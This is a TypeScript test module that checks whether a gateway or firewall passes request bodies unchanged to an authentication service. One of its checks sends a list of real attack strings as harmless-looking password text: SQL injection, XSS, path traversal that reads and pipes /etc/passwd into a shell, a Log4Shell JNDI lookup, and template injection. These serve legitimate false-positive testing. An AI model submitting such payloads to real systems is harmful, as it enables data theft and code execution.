import type { Check, Fault } from '../check.ts'
import type { ReceivedAnswer, TestRequest } from '../exchange.ts'
import { paths, randomUsername, usernameFieldOf } from '../sessions.ts'
import { jsonRequest, member, type World } from '../world.ts'
import { unlessStatus } from './requests.ts'

/** The limit of a request body, in bytes. */
const limit = 16_384

/** Request bodies arrive unchanged, up to the limit of the service. */
export const bodyChecks: readonly Check[] = [
  {
    id: 'bodies.limit',
    title: 'A body of 16,384 bytes is accepted',
    look: 'A body limit or buffer below that of the service (nginx: client_max_body_size, client_body_buffer_size).',
    run: (world) => unlessStatus(world, 401, padded(limit)),
  },
  {
    id: 'bodies.too-large',
    title: 'A longer body gets 413 with a body of JSON',
    look: 'Error pages for 413, and a gateway that closes the connection before the answer of the service arrives.',
    run: async (world) => [
      ...(await detailFaults(world, padded(limit + 1), 413)),
      ...(await detailFaults(world, padded(100_000), 413)),
    ],
  },
  {
    id: 'bodies.chunked',
    title: 'A body in chunks is accepted',
    look: 'A gateway that requires Content-Length (411), or drops bodies with Transfer-Encoding: chunked.',
    run: (world) => unlessStatus(world, 401, { ...jsonRequest(paths.verify, { token: 'x' }), isChunked: true }),
  },
  {
    id: 'bodies.expect',
    title: 'A request with Expect: 100-continue is accepted',
    look: 'A gateway that refuses Expect with 417, or waits for the body without 100.',
    run: (world) => unlessStatus(world, 401, jsonRequest(paths.verify, { token: 'x' }, { Expect: '100-continue' })),
  },
  {
    id: 'bodies.empty',
    title: 'A POST without a body reaches the service',
    look: 'A gateway that refuses POST without a body (411, 400). Logout has none.',
    run: async (world) => [
      ...(await unlessStatus(world, 400, { method: 'POST', path: paths.verify })),
      ...(await unlessStatus(world, 401, { method: 'POST', path: '/api/user/logout/' })),
    ],
  },
  {
    id: 'bodies.ordinary-text',
    title: 'Quotes, SQL words, markup and other letters pass: passwords may contain them',
    look: 'Rules of a firewall (WAF) for SQL injection, scripts, paths or encodings: leave out the bodies of /api/user/.',
    run: async (world) => {
      const faults: Fault[] = []
      for (const text of ordinaryTexts) {
        const form = { 'Content-Type': 'application/x-www-form-urlencoded' }
        const body = new URLSearchParams({ token: text }).toString()
        faults.push(...(await unlessStatus(world, 401, jsonRequest(paths.verify, { token: text }))))
        faults.push(...(await unlessStatus(world, 401, { method: 'POST', path: paths.verify, headers: form, body })))
      }
      return [...faults, ...(await refusedLoginFaults(world, ordinaryTexts.join('')))]
    },
  },
  {
    id: 'bodies.bytes',
    title: 'Bytes arrive as they were sent: malformed JSON and invalid UTF-8 get the 400 of the service',
    look: 'A filter that parses, repairs or re-encodes request bodies.',
    run: async (world) => {
      const invalid = Buffer.concat([Buffer.from('{"token":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')])
      return [
        ...(await detailFaults(world, jsonRequest(paths.verify, '{"token":'), 400, 'JSON')),
        ...(await detailFaults(world, { ...jsonRequest(paths.verify, ''), body: invalid }, 400, 'UTF-8')),
        ...(await detailFaults(world, { ...jsonRequest(paths.verify, ''), body: '\u{feff}{"token":"x"}' }, 400)),
      ]
    },
  },
]

/** What passwords, names and tokens may contain, and firewalls take for attacks. */
const ordinaryTexts = [
  `' OR '1'='1' -- `,
  '"; DROP TABLE users; SELECT * FROM accounts WHERE 1=1 UNION SELECT NULL --',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '../../../../etc/passwd; cat /etc/passwd | sh && $(id) `id`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a firewall looks for
  '${jndi:ldap://example.com/a} {{7*7}} %00 %0d%0a \\x00',
  'пароль 漢字 كلمة 🔑 Ünïcödé',
]

/** A request of `size` bytes that is refused for its token only. */
const padded = (size: number): TestRequest => jsonRequest(paths.verify, '{"token":"x"}'.padEnd(size, ' '))

/** A login of an account that does not exist. */
async function refusedLoginFaults(world: World, password: string): Promise<Fault[]> {
  const fields = { [usernameFieldOf(world.contract)]: randomUsername(world.contract), password }
  return unlessStatus(world, 401, jsonRequest(paths.login, fields))
}

async function detailFaults(world: World, request: TestRequest, status: number, word = ''): Promise<Fault[]> {
  const answer: ReceivedAnswer = await world.ask(request)
  const detail = member(answer.text, 'detail')
  if (answer.status === status && typeof detail === 'string' && detail.includes(word)) return []
  const came = `status ${answer.status}: ${answer.text.slice(0, 80)}`
  return [{ request, came, expected: `status ${status} with {"detail": "…${word}…"}` }]
}
